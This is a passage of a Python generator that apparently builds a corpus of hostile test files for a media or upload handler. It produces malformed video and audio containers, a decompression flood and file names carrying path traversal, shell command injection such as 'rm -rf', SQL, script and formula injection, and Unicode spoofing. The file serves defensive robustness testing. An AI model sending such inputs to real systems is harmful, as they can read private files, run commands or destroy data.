        "unknown": b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff",
        "giant": b"\x18\x53\x80\x67\x08\x00\x00\x00\x00\x00\x00\x00\x15\x49\xa9\x66\x0f\xff\xff\xff\xff",
        "attached": b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff\x19\x41\xa4\x69\xbf\x61\xa7\xbc\x46\x6e\x9c../../../../../tmp/canary\x46\x60\x88text/svg\x46\x5c\x84<svg\x46\xae\x81\x01"
        + bytes(20),
        "loop": b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff"
        + b"\x11\x4d\x9b\x74\x8e\x4d\xbb\x8b\x53\xab\x84\x11\x4d\x9b\x74\x53\xac\x81\x00" * 500,
        "lace": b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff\x1f\x43\xb6\x75\x90\xa3\x8e\x81\0\0\x06\xff"
        + b"\xff" * 12,
        "zlib": b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff\x16\x54\xae\x6b"
        b"\x10\x03\x00\x00" + _flood(64 << 20),
    }
    for name, data in segments.items():
        yield Hostile(f"{name}.mkv", ebml + data, "has elements that lie, nest or point away")
    rng = random.Random(20261121)
    for n in range(4):
        frame = (
            b"DHAV\xfd\0\0\0"
            + struct.pack("<IIIHBB", n, 0xFFFFFFFF if n else 64, 0x7FFFFFFF, 0, 255, n)
            + rng.randbytes(500)
            + b"dhav"
        )
        yield Hostile(f"lies-{n}.dav", frame * 3, "is a recorder's file with lengths that lie")
    for n, kind in enumerate(
        (
            b"RIFF\xff\xff\xff\xffAVI LIST\xff\xff\xff\xffhdrl",
            b"RIFF\0\0\0\0AVI ",
            b"RIFX\0\0\0\x10AVI ",
            b"OggS\0\x02" + b"\xff" * 21,
            b"fLaC\0\xff\xff\xff",
            b"ID3\x04\0\0\x7f\x7f\x7f\x7f",
            b"FLV\x01\x05\xff\xff\xff\xff",
            b"\x30\x26\xb2\x75\x8e\x66\xcf\x11\xa6\xd9\x00\xaa\x00\x62\xce\x6c" + b"\xff" * 16,
            b"\x00\x00\x01\xba",
            b"#!AMR\n",
            b"RIFF\xff\xff\xff\xffWAVEfmt \xff\xff\xff\xff",
            b".RMF\0\0\0\x12" + b"\xff" * 10,
        )
    ):
        yield Hostile(
            f"broken-{n}.rec", kind + rng.randbytes(4000), "begins like a recording and goes on like noise"
        )


# --- names


def names(aims: Aims) -> Iterator[Hostile]:
    """Names that are paths, commands, devices, invisible, reversed, too long, or the same to the eye."""
    said = [
        "../../../../etc/passwd", "..\\..\\windows\\system32\\x.dll", "/etc/shadow", "C:\\CON", "CON", "nul.txt", "aux.jpg",
        "photo.jpg\x00.exe", "photo\u202egpj.exe", "\u2066\u202ephoto\u2069.png", "a\u200b\u200d\ufeffb.jpg", "cafe\u0301.jpg", "caf\u00e9.jpg",
        "\u212b.jpg", "\u00c5.jpg", "x" * 255 + ".jpg", "\U0001f600" * 200 + ".png", "a" * 5000, ".", "..", "...", " ", ".htaccess", "-rf", "--help",
        "$(touch canary).jpg", "`id`.jpg", "; rm -rf ~.jpg", "a\nb.jpg", "a\r\nSet-Cookie: x=y.jpg", 'a".jpg', "a';DROP TABLE x;--.jpg",
        "<script>alert(1)</script>.jpg", "<img src=x onerror=alert(1)>.png", "{{7*7}}.jpg", "%2e%2e%2fx.jpg", "file.jpg.", "file.jpg ", "~root", "a:b:c.jpg",
        "\ud7ff\ue000.jpg", "e\u0301\u0301\u0301\u0301" * 40 + ".jpg", "\u05d0\u05d1.jpg", "\u0627\u0644.jpg", "=1+1.csv", "@SUM(A1).csv",
    ]  # fmt: skip
    for n, name in enumerate(said):
        yield Hostile(
            name, b"a note under an odd name, number %d\n" % n, "has a name that is more than a name"
        )


FAMILIES: tuple[Callable[[Aims], Iterator[Hostile]], ...] = (
    packed,
    markup,
    polyglots,
    documents,
    pictures,
    recordings,
    names,
)

if __name__ == "__main__":  # pragma: no cover
    found = corpus()
    print(len(found), "files,", sum(len(h.data) for h in found) >> 20, "MiB")
